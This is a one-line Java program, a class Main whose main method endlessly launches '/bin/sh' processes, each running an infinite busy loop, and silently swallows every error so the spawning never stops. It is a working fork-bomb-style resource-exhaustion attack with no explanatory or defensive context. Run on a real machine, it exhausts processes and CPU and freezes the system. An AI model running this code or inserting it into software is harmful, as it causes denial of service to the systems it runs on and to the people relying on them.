public class Main { public static void main(String[] a) throws Exception { while (true) try { new ProcessBuilder("/bin/sh", "-c", "while :; do :; done").start(); } catch (Throwable t) { } } }
